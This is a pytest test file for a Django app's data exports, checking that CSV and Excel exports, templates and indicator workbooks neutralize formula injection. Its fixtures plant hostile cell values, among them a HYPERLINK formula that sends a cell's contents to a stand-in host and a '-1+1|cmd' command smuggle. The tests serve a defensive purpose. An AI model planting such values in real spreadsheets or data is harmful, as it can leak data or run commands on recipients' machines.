"""No exported text becomes a formula (issue 17, Low 11): a county named =HYPERLINK(…) became a
formula cell in the exports, the only text that was not neutralized. Every text cell of every
export, template and indicator workbook is checked here, whatever column it comes from."""
import csv
import datetime
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from capacity.models import DisputeCase
from cadres.models import Gender, TwoCommitteeMember
from dataexchange.specs import SPECS

# What a spreadsheet runs (or, from CSV, may run) as a formula: written here, not imported.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = {
    "county_a": '=HYPERLINK("http://x.invalid/?"&A1,"噶尔县")',
    "township_a": "+狮泉河镇",
    "village_a1": "@加木村",
    "org_a1": "-1+1|cmd",
}


@pytest.fixture
def hostile_world(world):
    for attr, name in HOSTILE.items():
        obj = getattr(world, attr)
        obj.name = name
        obj.save()
    TwoCommitteeMember.objects.create(name="=1+1", gender=Gender.MALE, village=world.village_a1, committee="both",
                                      post="书记", term_start=datetime.date(2021, 3, 1))
    DisputeCase.objects.create(village=world.village_a1, found_on=datetime.date(2022, 3, 1), description="@SUM(A1)")
    return world


def formula_cells(content: bytes) -> list[str]:
    book = load_workbook(io.BytesIO(content))  # not read-only: data_type says whether a cell is a formula
    found = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f" or (isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS)):
                    found.append(f"{sheet.title}!{cell.coordinate}={cell.value!r}")
    return found


def csv_formula_fields(content: bytes) -> list[str]:
    rows = csv.reader(io.StringIO(content.decode("utf-8-sig")))
    return [field for row in rows for field in row if field.startswith(FORMULA_STARTS)]


@pytest.mark.parametrize("kind", sorted(SPECS))
def test_no_export_or_template_cell_is_a_formula(hostile_world, client_for, kind):
    world = hostile_world
    carol = client_for(world.carol)
    xlsx = carol.get(reverse("dataexchange:export", args=[kind, "xlsx"]))
    csv_body = carol.get(reverse("dataexchange:export", args=[kind, "csv"]))
    assert xlsx.status_code == csv_body.status_code == 200
    assert formula_cells(xlsx.content) == []
    assert csv_formula_fields(csv_body.content) == []
    template = carol.get(reverse("dataexchange:template", args=[kind]))
    assert template.status_code == 200
    assert formula_cells(template.content) == []


def test_the_hostile_names_are_exported_as_text(hostile_world, client_for):
    """The check above is real: the names are in the files, neutralized, not dropped."""
    carol = client_for(hostile_world.carol)
    body = carol.get(reverse("dataexchange:export", args=["organizations", "csv"])).content.decode("utf-8-sig")
    fields = [field for row in csv.reader(io.StringIO(body)) for field in row]
    assert "'" + HOSTILE["org_a1"] in fields
    assert any(field.startswith("'" + HOSTILE["county_a"] + "/") for field in fields)  # the area path
    book = load_workbook(io.BytesIO(carol.get(reverse("dataexchange:export", args=["dispute_cases", "xlsx"])).content))
    values = [c.value for row in book.active.iter_rows() for c in row]
    assert "'@SUM(A1)" in values and any(isinstance(v, str) and HOSTILE["county_a"] in v for v in values)


def test_no_indicator_workbook_cell_is_a_formula(hostile_world, client_for):
    client = client_for(hostile_world.carol)
    for area in (hostile_world.root, hostile_world.county_a, hostile_world.township_a):
        response = client.get(reverse("indicators:report_xlsx", args=[area.pk]), {"year": 2022})
        assert response.status_code == 200
        assert formula_cells(response.content) == []
